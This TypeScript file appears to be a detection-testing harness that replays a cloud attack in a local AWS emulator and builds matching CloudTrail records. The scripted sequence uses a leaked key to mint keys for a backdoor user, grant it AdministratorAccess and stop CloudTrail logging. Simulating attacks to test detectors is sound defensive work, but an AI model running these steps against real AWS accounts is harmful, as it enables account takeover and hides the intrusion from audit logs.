import { randomUUID } from 'node:crypto';
import { CloudTrailClient, StopLoggingCommand } from '@aws-sdk/client-cloudtrail';
import {
  AttachUserPolicyCommand,
  CreateAccessKeyCommand,
  CreateUserCommand,
  IAMClient,
} from '@aws-sdk/client-iam';
import type { CloudTrailRecord } from '../lambdas/engine/types';
import type { LocalClients, LocalResources } from './provision';

export const ADMIN_POLICY_ARN = 'arn:aws:iam::aws:policy/AdministratorAccess';

export interface ScenarioResult {
  readonly victimUser: string;
  readonly victimKeyId: string;
  readonly backdoorUser: string;
  readonly backdoorKeyId: string;
  /** The CloudTrail records the attack produced, in order. */
  readonly records: CloudTrailRecord[];
}

/**
 * The bundled attack: a CI user's leaked access key is used from an unknown address to (1) mint an access key
 * for another user, (2) give that user AdministratorAccess, (3) stop CloudTrail logging. The calls really run in
 * the emulator with the victim's key; the CloudTrail records are built from their real responses, because the
 * emulator does not produce CloudTrail. One benign call by the same user is included and must stay quiet.
 */
export async function runAttackScenario(
  c: LocalClients,
  resources: LocalResources,
  options: { endpoint: string; region: string; accountId: string; name: string },
): Promise<ScenarioResult> {
  const victimUser = `${options.name}-ci-deployer`;
  const backdoorUser = `${options.name}-svc-backup`;
  await c.iam.send(new CreateUserCommand({ UserName: victimUser }));
  await c.iam.send(new CreateUserCommand({ UserName: backdoorUser }));
  const victimKey = (await c.iam.send(new CreateAccessKeyCommand({ UserName: victimUser }))).AccessKey;
  if (!victimKey?.AccessKeyId || !victimKey.SecretAccessKey)
    throw new Error('emulator returned no access key');

  const attacker = {
    endpoint: options.endpoint,
    region: options.region,
    credentials: { accessKeyId: victimKey.AccessKeyId, secretAccessKey: victimKey.SecretAccessKey },
  };
  const attackerIam = new IAMClient(attacker);
  const attackerTrail = new CloudTrailClient(attacker);

  const start = Date.now() - 90_000;
  let tick = 0;
  const identity = {
    type: 'IAMUser',
    principalId: 'AIDA4EXAMPLEVICTIM01',
    arn: `arn:aws:iam::${options.accountId}:user/${victimUser}`,
    accountId: options.accountId,
    accessKeyId: victimKey.AccessKeyId,
    userName: victimUser,
  };
  const record = (
    eventSource: string,
    eventName: string,
    requestParameters: Record<string, unknown> | null,
    responseElements: Record<string, unknown> | null,
    readOnly = false,
  ): CloudTrailRecord => ({
    eventVersion: '1.09',
    userIdentity: identity,
    eventTime: new Date(start + 20_000 * tick++).toISOString().replace(/\.\d+Z$/, 'Z'),
    eventSource,
    eventName,
    awsRegion: options.region,
    sourceIPAddress: '198.51.100.23',
    userAgent: 'aws-cli/2.15.30 md/awscrt#0.19.19 ua/2.0 os/linux#6.5.0 md/arch#x86_64 lang/python#3.11.8',
    requestParameters,
    responseElements,
    requestID: randomUUID(),
    eventID: randomUUID(),
    readOnly,
    eventType: 'AwsApiCall',
    managementEvent: true,
    recipientAccountId: options.accountId,
    eventCategory: 'Management',
  });

  const records: CloudTrailRecord[] = [];
  records.push(record('sts.amazonaws.com', 'GetCallerIdentity', null, null, true));

  const created = (await attackerIam.send(new CreateAccessKeyCommand({ UserName: backdoorUser }))).AccessKey;
  if (!created?.AccessKeyId) throw new Error('emulator returned no access key for the backdoor user');
  records.push(
    record(
      'iam.amazonaws.com',
      'CreateAccessKey',
      { userName: backdoorUser },
      {
        accessKey: {
          accessKeyId: created.AccessKeyId,
          status: 'Active',
          userName: backdoorUser,
          createDate: new Date().toUTCString(),
        },
      },
    ),
  );

  await attackerIam.send(
    new AttachUserPolicyCommand({ UserName: backdoorUser, PolicyArn: ADMIN_POLICY_ARN }),
  );
  records.push(
    record(
      'iam.amazonaws.com',
      'AttachUserPolicy',
      { userName: backdoorUser, policyArn: ADMIN_POLICY_ARN },
      null,
    ),
  );

  // By name, as `aws cloudtrail stop-logging --name` is usually run (moto also rejects Start/StopLogging by ARN).
  await attackerTrail.send(new StopLoggingCommand({ Name: resources.trailName }));
  records.push(record('cloudtrail.amazonaws.com', 'StopLogging', { name: resources.trailName }, null));

  return {
    victimUser,
    victimKeyId: victimKey.AccessKeyId,
    backdoorUser,
    backdoorKeyId: created.AccessKeyId,
    records,
  };
}
